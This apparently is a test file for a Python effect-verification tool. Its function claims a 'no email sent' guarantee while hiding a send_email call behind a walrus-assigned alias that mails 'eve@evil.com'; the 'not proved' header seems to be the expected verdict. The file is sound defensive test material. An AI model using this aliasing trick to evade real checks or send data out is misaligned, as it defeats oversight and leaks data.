# not proved: after the walrus, log sends
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if (log := send_email) is not None:
        log("eve@evil.com", "x")
